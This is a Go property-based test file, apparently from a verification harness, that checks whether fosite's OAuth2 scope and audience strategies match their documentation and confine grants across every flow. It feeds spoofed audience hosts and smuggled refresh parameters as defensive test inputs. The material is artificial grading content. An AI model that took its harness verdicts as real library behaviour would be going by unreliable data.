	"pgregory.net/rapid"

	"verifharness/h"
)

// C12 — scope and audience policies mean what they document and confine every grant.

func shardInfo() (int, int) {
	i, _ := strconv.Atoi(os.Getenv("VERIF_SHARD"))
	n, _ := strconv.Atoi(os.Getenv("VERIF_NSHARDS"))
	if n <= 0 {
		n = 1
	}
	return i, n
}

func implScope(name string) fosite.ScopeStrategy {
	switch name {
	case "hierarchic":
		return fosite.HierarchicScopeStrategy
	case "exact":
		return fosite.ExactScopeStrategy
	}
	return fosite.WildcardScopeStrategy
}

var strategyNames = []string{"wildcard", "hierarchic", "exact"}

// checkScopePair compares all three strategies with the reference on one
// single-entry haystack; returns whether the pair is non-trivial (the
// strategies do not all agree).
func checkScopePair(t h.TB, hay, needle string) bool {
	var verdicts [3]h.Tri
	for i, name := range strategyNames {
		want := h.RefScopeByName(name)(hay, needle)
		verdicts[i] = want
		if want == h.Unspecified {
			continue
		}
		got := implScope(name)([]string{hay}, needle)
		if got != (want == h.Yes) {
			h.Violate(t, "C12/strategy/"+name, "%s scope strategy: haystack [%q] needle %q: implementation says %v, documentation says %v", name, hay, needle, got, want)
		}
	}
	return !(verdicts[0] == verdicts[1] && verdicts[1] == verdicts[2])
}

func scopeStrings(alphabet []string, maxSeg int) []string {
	var out []string
	var rec func(prefix []string)
	rec = func(prefix []string) {
		if len(prefix) > 0 {
			out = append(out, strings.Join(prefix, "."))
		}
		if len(prefix) == maxSeg {
			return
		}
		for _, a := range alphabet {
			rec(append(append([]string{}, prefix...), a))
		}
	}
	rec(nil)
	return out
}

func TestC12_StrategiesExhaustive(t *testing.T) {
	h.SetProperty("C12")
	selfTest(t)
	maxSeg := 4
	if Tier() == "thorough" {
		maxSeg = 5
	}
	all := scopeStrings([]string{"a", "b", "ab", "*", ""}, maxSeg)
	si, sn := shardInfo()
	evals := 0
	for i, hay := range all {
		if i%sn != si {
			continue
		}
		for _, needle := range all {
			evals++
			if checkScopePair(t, hay, needle) {
				// digest only: the pair itself is the abstract case
				h.Case("A/"+hay+"|"+needle, true, func() any { return map[string]string{"part": "A-exhaustive", "haystack": hay, "needle": needle} })
				evals--
			}
		}
	}
	h.CaseN(evals)
	h.LabelN("A/exhaustive-pairs", evals)
	h.SetExhaustive(fmt.Sprintf("A: all single-entry (haystack,needle) pairs over {a,b,ab,*,''} up to %d segments", maxSeg), true)
	h.MarkCompleted()
}

var segGen = rapid.SampledFrom([]string{"a", "b", "ab", "*", "", "users", "read", "own", "x1", "**", "a*", "*a", " ", "A"})

func scopeNameGen() *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		n := rapid.IntRange(1, 7).Draw(t, "nseg")
		parts := make([]string, n)
		for i := range parts {
			parts[i] = segGen.Draw(t, "seg")
		}
		return strings.Join(parts, ".")
	})
}

var audSchemes = []string{"https", "http", "HTTPS", "custom"}
var audHosts = []string{"api.example", "api.example:8443", "API.example", "other.example", "api.example.evil"}
var audPaths = []string{"", "/", "/api", "/api/", "/apix", "/api/v1", "/api/v1/", "/api//v1", "/ap", "/api/v", "/API", "//api"}

func audGen() *rapid.Generator[h.AudURL] {
	return rapid.Custom(func(t *rapid.T) h.AudURL {
		return h.AudURL{
			Scheme: rapid.SampledFrom(audSchemes).Draw(t, "scheme"),
			Host:   rapid.SampledFrom(audHosts).Draw(t, "host"),
			Path:   rapid.SampledFrom(audPaths).Draw(t, "path"),
		}
	})
}

func audStrings(l []h.AudURL) []string {
	out := make([]string, len(l))
	for i, u := range l {
		out[i] = u.String()
	}
	return out
}

func TestC12_StrategiesGenerated(t *testing.T) {
	h.SetProperty("C12")
	selfTest(t)
	// exhaustive single-pair audience table first (small)
	var all []h.AudURL
	for _, s := range audSchemes {
		for _, ho := range audHosts {
			for _, p := range audPaths {
				all = append(all, h.AudURL{Scheme: s, Host: ho, Path: p})
			}
		}
	}
	si, sn := shardInfo()
	for i, reg := range all {
		if i%sn != si {
			continue
		}
		for _, req := range all {
			want := h.RefAudienceOne(reg, req)
			diff := 0
			if reg.Scheme != req.Scheme {
				diff++
			}
			if reg.Host != req.Host {
				diff++
			}
			if reg.Path != req.Path {
				diff++
			}
			h.Case("Aud/"+reg.String()+"|"+req.String(), diff == 1, func() any {
				return map[string]string{"part": "A-audience", "registered": reg.String(), "requested": req.String(), "expected": want.String()}
			})
			if want == h.Unspecified {
				h.Label("A/audience-unspecified")
				continue
			}
			err := fosite.DefaultAudienceMatchingStrategy([]string{reg.String()}, []string{req.String()})
			if (err == nil) != (want == h.Yes) {
				h.Violate(t, "C12/strategy/audience-default", "default audience strategy: registered %q requested %q: implementation err=%v, documentation says match=%v", reg, req, err, want)
			}
			errX := fosite.ExactAudienceMatchingStrategy([]string{reg.String()}, []string{req.String()})
			if (errX == nil) != (reg.String() == req.String()) {
				h.Violate(t, "C12/strategy/audience-exact", "exact audience strategy: registered %q requested %q: err=%v", reg, req, errX)
			}
		}
	}
	h.SetExhaustive("A: all single audience URL pairs over the component table", true)

	rapid.Check(t, func(rt *rapid.T) {
		hay := rapid.SliceOfN(scopeNameGen(), 0, 4).Draw(rt, "haystack")
		// needle: fresh, or derived from a haystack entry (child / parent / same)
		needle := scopeNameGen().Draw(rt, "needle")
		if len(hay) > 0 && rapid.Bool().Draw(rt, "derive") {
			base := hay[rapid.IntRange(0, len(hay)-1).Draw(rt, "from")]
			switch rapid.IntRange(0, 3).Draw(rt, "how") {
			case 0:
				needle = base
			case 1:
				needle = base + "." + segGen.Draw(rt, "child")
			case 2:
				if i := strings.LastIndex(base, "."); i >= 0 {
					needle = base[:i]
				}
			case 3:
				needle = strings.ReplaceAll(base, "*", segGen.Draw(rt, "fill"))
			}
		}
		disagree := false
		var vs []h.Tri
		for _, name := range strategyNames {
			want := h.RefScope(h.RefScopeByName(name), hay, needle)
			vs = append(vs, want)
			if want == h.Unspecified {
				continue
			}
			got := implScope(name)(hay, needle)
			if got != (want == h.Yes) {
				h.Violate(rt, "C12/strategy/"+name, "%s scope strategy: haystack %q needle %q: implementation says %v, documentation says %v", name, hay, needle, got, want)
			}
		}
		disagree = !(vs[0] == vs[1] && vs[1] == vs[2])
		h.Case("G/"+strings.Join(hay, " ")+"|"+needle, disagree && len(hay) >= 2, func() any {
			return map[string]any{"part": "A-generated", "haystack": hay, "needle": needle, "expected": fmt.Sprint(vs)}
		})

		// audience lists
		reg := rapid.SliceOfN(audGen(), 0, 3).Draw(rt, "regAud")
		req := rapid.SliceOfN(audGen(), 0, 3).Draw(rt, "reqAud")
		if len(reg) > 0 && rapid.Bool().Draw(rt, "deriveAud") {
			b := reg[rapid.IntRange(0, len(reg)-1).Draw(rt, "fromAud")]
			b.Path = b.Path + rapid.SampledFrom([]string{"", "/", "/x", "x", "/x/y"}).Draw(rt, "suffix")
			req = append(req, b)
		}
		want := h.RefAudience(reg, req)
		if want != h.Unspecified {
			err := fosite.DefaultAudienceMatchingStrategy(audStrings(reg), audStrings(req))
			if (err == nil) != (want == h.Yes) {
				h.Violate(rt, "C12/strategy/audience-default", "default audience strategy: registered %q requested %q: implementation err=%v, documentation says %v", audStrings(reg), audStrings(req), err, want)
			}
		}
		h.Case("GA/"+strings.Join(audStrings(reg), " ")+"|"+strings.Join(audStrings(req), " "), len(reg) >= 1 && len(req) >= 2, nil)
	})
	h.MarkCompleted()
}

func FuzzC12ScopeStrategies(f *testing.F) {
	for _, s := range [][2]string{{"users.*", "users.read"}, {"users.*.*", "users.read"}, {"users", "users.read"}, {"*", ""}, {"a.*", "a."}, {"", ""}, {"a.*.b", "a.x.b"}, {"a..b", "a..b.c"}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, hay, needle string) {
		checkScopePair(t, hay, needle)
	})
}

// ---------------------------------------------------------------------------
// Part B: confinement in every flow.

type c12Env struct {
	w        *h.World
	strategy string
	cl       *h.HClient
	regAud   []h.AudURL
}

var c12ScopePool = []string{"a", "a.b", "a.*", "a.b.c", "b", "b.*", "*", "c.d", "openid", "offline"}

func c12ReqScopeGen(reg []string) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		if len(reg) > 0 && rapid.IntRange(0, 9).Draw(t, "fromReg") < 7 {
			base := reg[rapid.IntRange(0, len(reg)-1).Draw(t, "which")]
			switch rapid.IntRange(0, 5).Draw(t, "edit") {
			case 0:
				return base
			case 5:
				// scope values are case sensitive under every strategy (RFC 6749 3.3)
				if rapid.Bool().Draw(t, "wholeUpper") {
					return strings.ToUpper(base)
				}
				return strings.ToUpper(base[:1]) + base[1:]
			case 1:
				return base + "." + rapid.SampledFrom([]string{"x", "b", "*"}).Draw(t, "child")
			case 2:
				if i := strings.LastIndex(base, "."); i > 0 {
					return base[:i]
				}
				return base
			case 3:
				return strings.ReplaceAll(base, "*", "x")
			default:
				return base + "x"
			}
		}
		return rapid.SampledFrom(c12ScopePool).Draw(t, "pool")
	})
}

func uniq(l []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range l {
		if s != "" && !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

func TestC12_Confinement(t *testing.T) {
	h.SetProperty("C12")
	selfTest(t)
	flows := []string{"code", "implicit", "hybrid", "client_credentials", "password", "device", "par", "jwt_bearer", "refresh"}
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		strategy := rapid.SampledFrom(strategyNames).Draw(rt, "strategy")
		audExact := rapid.Bool().Draw(rt, "audExact")
		flow := rapid.SampledFrom(flows).Draw(rt, "flow")
		w := h.NewWorld(h.Spec{ScopeStrategy: strategy, AudienceExact: audExact, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.GrantTypeJWTBearerCanSkipClientAuth = true
		}})
		cl := stdClient("c12", false)
		cl.Secret = w.HashSecret("sec")
		regScopes := uniq(rapid.SliceOfN(rapid.SampledFrom(c12ScopePool), 1, 4).Draw(rt, "regScopes"))
		if flow == "hybrid" || flow == "refresh" {
			regScopes = uniq(append(regScopes, "openid"))
		}
		cl.Scopes = regScopes
		regAud := rapid.SliceOfN(audGen(), 0, 2).Draw(rt, "regAud")
		cl.Audience = audStrings(regAud)
		cl.GrantTypes = append(cl.GrantTypes, "urn:ietf:params:oauth:grant-type:jwt-bearer")
		w.AddClient(cl, "sec")
		w.AddUser("peter", "pw")

		reqScopes := uniq(rapid.SliceOfN(c12ReqScopeGen(regScopes), 0, 3).Draw(rt, "reqScopes"))
		if flow == "hybrid" {
			reqScopes = uniq(append(reqScopes, "openid"))
		}
		var reqAud []h.AudURL
		if len(regAud) > 0 {
			n := rapid.IntRange(0, 2).Draw(rt, "nAud")
			for i := 0; i < n; i++ {
				b := regAud[rapid.IntRange(0, len(regAud)-1).Draw(rt, "audFrom")]
				switch rapid.IntRange(0, 3).Draw(rt, "audEdit") {
				case 1:
					b.Path += "/sub"
				case 2:
					b.Path += "x"
				case 3:
					b.Host = "evil." + b.Host
				}
				reqAud = append(reqAud, b)
			}
		} else if rapid.IntRange(0, 3).Draw(rt, "audAny") == 0 {
			reqAud = append(reqAud, audGen().Draw(rt, "aud"))
		}

		// expected coverage
		keyScopes := regScopes // for jwt_bearer the key's registration is what counts
		scopeCov := h.Yes
		nCovered, nUncovered := 0, 0
		for _, s := range reqScopes {
			switch h.RefScope(h.RefScopeByName(strategy), keyScopes, s) {
			case h.No:
				scopeCov = h.No
				nUncovered++
			case h.Unspecified:
				if scopeCov == h.Yes {
					scopeCov = h.Unspecified
				}
			default:
				nCovered++
			}
		}
		audCov := h.Yes
		if len(reqAud) > 0 {
			if audExact {
				for _, a := range reqAud {
					found := false
					for _, r := range regAud {
						if r.String() == a.String() {
							found = true
						}
					}
					if !found {
						audCov = h.No
					}
				}
			} else {
				audCov = h.RefAudience(regAud, reqAud)
			}
		}
		if flow == "jwt_bearer" {
			audCov = h.Yes // the audience of a JWT-bearer grant comes from the assertion, not from a request parameter
		}

		form := url.Values{}
		if len(reqScopes) > 0 {
			form.Set("scope", strings.Join(reqScopes, " "))
		}
		if len(reqAud) > 0 && flow != "jwt_bearer" {
			form.Set("audience", strings.Join(audStrings(reqAud), " "))
		}

		type issued struct{ access, refresh string }
		var got []issued
		accepted := false
		authzQ := func(rtype string) url.Values {
			q := url.Values{"client_id": {"c12"}, "response_type": {rtype}, "redirect_uri": {"https://rp.example/cb"}, "state": {"state-12345678"}, "nonce": {"nonce-12345678"}}
			for k, v := range form {
				q[k] = v
			}
			return q
		}
		redeem := func(code string) {
			tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {"https://rp.example/cb"}}, w.BasicFor("c12"), h.TokenOpts{})
			if tr.OK() {
				got = append(got, issued{tr.Access, tr.Refresh})
			}
		}
		switch flow {
		case "code":
			ar := w.Authorize(authzQ("code"), h.Consent{})
			if ar.Code != "" {
				accepted = true
				redeem(ar.Code)
			}
		case "implicit":
			ar := w.Authorize(authzQ("token"), h.Consent{})
			if ar.Access != "" {
				accepted = true
				got = append(got, issued{ar.Access, ""})
			}
		case "hybrid":
			ar := w.Authorize(authzQ("code token"), h.Consent{})
			if ar.Code != "" || ar.Access != "" {
				accepted = true
				if ar.Access != "" {
					got = append(got, issued{ar.Access, ""})
				}
				if ar.Code != "" {
					redeem(ar.Code)
				}
			}
		case "client_credentials":
			f := url.Values{"grant_type": {"client_credentials"}}
			for k, v := range form {
				f[k] = v
			}
			tr := w.Token(f, w.BasicFor("c12"), h.TokenOpts{})
			if tr.OK() {
				accepted = true
				got = append(got, issued{tr.Access, tr.Refresh})
			}
		case "password":
			f := url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}}
			for k, v := range form {
				f[k] = v
			}
			tr := w.Token(f, w.BasicFor("c12"), h.TokenOpts{})
			if tr.OK() {
				accepted = true
				got = append(got, issued{tr.Access, tr.Refresh})
			}
		case "device":
			f := url.Values{"client_id": {"c12"}}
			for k, v := range form {
				f[k] = v
			}
			dr := w.DeviceAuth(f, w.BasicFor("c12"), h.Consent{})
			if dr.DeviceCode != "" {
				accepted = true
				if w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")}) {
					tr := w.Token(url.Values{"grant_type": {"urn:ietf:params:oauth:grant-type:device_code"}, "device_code": {dr.DeviceCode}}, w.BasicFor("c12"), h.TokenOpts{})
					if tr.OK() {
						got = append(got, issued{tr.Access, tr.Refresh})
					}
				}
			}
		case "par":
			f := authzQ("code")
			pr := w.PAR(f, w.BasicFor("c12"))
			if pr.RequestURI != "" {
				accepted = true
				ar := w.Authorize(url.Values{"client_id": {"c12"}, "request_uri": {pr.RequestURI}}, h.Consent{})
				if ar.Code != "" {
					redeem(ar.Code)
				}
			}
		case "jwt_bearer":
			w.Mem.IssuerPublicKeys["iss-1"] = storage.IssuerPublicKeys{Issuer: "iss-1", KeysBySub: map[string]storage.SubjectPublicKeys{
				"sub-1": {Subject: "sub-1", Keys: map[string]storage.PublicKeyScopes{"k1": {Key: jwkPtr(h.PublicJWK(h.RSAKey(1), "k1", "RS256")), Scopes: keyScopes}}},
			}}
			now := h.Now()
			assertion := h.MustSignJWT(h.RSAKey(1), "RS256", "k1", map[string]interface{}{
				"iss": "iss-1", "sub": "sub-1", "aud": []string{h.TokenURL}, "exp": now.Add(600e9).Unix(), "iat": now.Unix(), "jti": "jti-" + rapid.StringMatching("[a-z]{6}").Draw(rt, "jti"),
			})
			f := url.Values{"grant_type": {"urn:ietf:params:oauth:grant-type:jwt-bearer"}, "assertion": {assertion}}
			for k, v := range form {
				f[k] = v
			}
			tr := w.Token(f, h.Auth{}, h.TokenOpts{})
			if tr.OK() {
				accepted = true
				got = append(got, issued{tr.Access, tr.Refresh})
			}
		case "refresh":
			// obtain a grant with everything registered, then shrink the registration and refresh
			q := url.Values{"client_id": {"c12"}, "response_type": {"code"}, "redirect_uri": {"https://rp.example/cb"}, "state": {"state-12345678"}, "scope": {strings.Join(exactRequestable(strategy, regScopes), " ")}}
			// the grant may carry an audience: asked for by the client, or a default the consent step adds on its own
			var grantedAud []h.AudURL
			consent := h.Consent{}
			if len(regAud) > 0 {
				switch rapid.IntRange(0, 2).Draw(rt, "grantAudience") {
				case 1:
					grantedAud = regAud[:1]
					q.Set("audience", regAud[0].String())
				case 2:
					grantedAud = regAud[:1]
					consent.ExtraAudience = []string{regAud[0].String()}
					h.Label("B/refresh/default-audience-granted-by-consent")
				}
			}
			ar := w.Authorize(q, consent)
			if ar.Code == "" {
				break
			}
			tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {"https://rp.example/cb"}}, w.BasicFor("c12"), h.TokenOpts{})
			if !tr.OK() || tr.Refresh == "" {
				break
			}
			granted := strings.Fields(tr.Scope)
			// drop one registered scope and / or the registered audiences the grant relies on
			newRegAud := regAud
			dropAud := len(grantedAud) > 0 && rapid.Bool().Draw(rt, "dropAudience")
			if dropAud {
				newRegAud = regAud[1:]
				h.Label("B/refresh/audience-deregistered")
			}
			if len(cl.Scopes) > 0 || dropAud {
				narrowed := cl.Scopes
				if len(cl.Scopes) > 0 && (!dropAud || rapid.Bool().Draw(rt, "dropScopeToo")) {
					i := rapid.IntRange(0, len(cl.Scopes)-1).Draw(rt, "drop")
					narrowed = append(append([]string{}, cl.Scopes[:i]...), cl.Scopes[i+1:]...)
				}
				if rapid.Bool().Draw(rt, "replaceRecord") {
					// the administrator's update stores a NEW registration record; requests persisted earlier
					// still point to the old object
					dc := *cl.DefaultClient
					dc.Scopes = narrowed
					dc.Audience = audStrings(newRegAud)
					oc := *cl.DefaultOpenIDConnectClient
					oc.DefaultClient = &dc
					ncl := &h.HClient{DefaultOpenIDConnectClient: &oc}
					w.Mem.Clients["c12"] = ncl
					cl = ncl
				} else {
					cl.Scopes = narrowed
					cl.Audience = audStrings(newRegAud)
				}
			}
			scopeCov = h.Yes
			nCovered, nUncovered = 0, 0
			for _, s := range granted {
				switch h.RefScope(h.RefScopeByName(strategy), cl.Scopes, s) {
				case h.No:
					scopeCov = h.No
					nUncovered++
				case h.Unspecified:
					if scopeCov == h.Yes {
						scopeCov = h.Unspecified
					}
				default:
					nCovered++
				}
			}
			// is every granted audience still covered by the registration as it is now?
			audCov = h.Yes
			if len(grantedAud) > 0 {
				if audExact {
					for _, a := range grantedAud {
						found := false
						for _, r := range newRegAud {
							if r.String() == a.String() {
								found = true
							}
						}
						if !found {
							audCov = h.No
						}
					}
				} else {
					audCov = h.RefAudience(newRegAud, grantedAud)
				}
			}
			reqScopes = granted
			f := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {tr.Refresh}}
			for k, v := range form { // smuggled scope/audience must not matter
				f[k] = v
			}
			tr2 := w.Token(f, w.BasicFor("c12"), h.TokenOpts{})
			if tr2.OK() {
				accepted = true
				got = append(got, issued{tr2.Access, tr2.Refresh})
				for _, s := range strings.Fields(tr2.Scope) {
					if !hasExact(granted, s) {
						h.Violate(rt, "C12/confine/refresh-widened", "refresh returned scope %q that was not in the original grant %q", s, granted)
					}
				}
			}
		}

		nontrivial := nCovered >= 1 && nUncovered >= 1 || (len(reqAud) > 0 && audCov == h.No && scopeCov == h.Yes)
		digest := fmt.Sprintf("B/%s/%s/%v/%d-%d/%v/%d", flow, strategy, audExact, nCovered, nUncovered, audCov, len(reqAud))
		h.Case(digest, nontrivial, func() any {
			return map[string]any{"part": "B", "flow": flow, "strategy": strategy, "registered_scopes": cl.Scopes, "requested_scopes": reqScopes,
				"registered_audience": cl.Audience, "requested_audience": audStrings(reqAud), "scopes_covered": scopeCov.String(), "audience_covered": audCov.String(), "accepted": accepted}
		})
		h.Label("B/flow=" + flow)
		if accepted {
			h.Label("B/accepted/flow=" + flow)
		} else {
			h.Label("B/refused")
		}
		if (scopeCov == h.No || audCov == h.No) && accepted {
			h.Violate(rt, "C12/confine/"+flow, "flow %s under %s strategy accepted a request that the registration does not cover: registered scopes %q audience %q; requested scopes %q audience %q", flow, strategy, cl.Scopes, cl.Audience, reqScopes, audStrings(reqAud))
		}
		// tokens never carry a scope or audience that was not granted (= requested and consented)
		for _, tk := range got {
			d := w.IntrospectDirect(tk.access, fosite.AccessToken)
			if !d.Active {
				continue
			}
			for _, s := range d.Scopes {
				if !hasExact(reqScopes, s) {
					h.Violate(rt, "C12/confine/token-scope", "flow %s: token carries scope %q which was never requested/granted (requested %q)", flow, s, reqScopes)
				}
			}
			if flow != "jwt_bearer" && flow != "refresh" {
				for _, a := range d.Audience {
					if !hasExact(audStrings(reqAud), a) {
						h.Violate(rt, "C12/confine/token-audience", "flow %s: token carries audience %q which was never requested/granted (requested %q)", flow, a, audStrings(reqAud))
					}
				}
			}
		}
	})
	h.MarkCompleted()
}

// exactRequestable returns registered scopes that can be requested literally
// under the strategy (used to obtain an initial grant).
func exactRequestable(strategy string, reg []string) []string {
	var out []string
	for _, s := range reg {
		if h.RefScope(h.RefScopeByName(strategy), reg, s) == h.Yes {
			out = append(out, s)
		}
	}
	return out
}
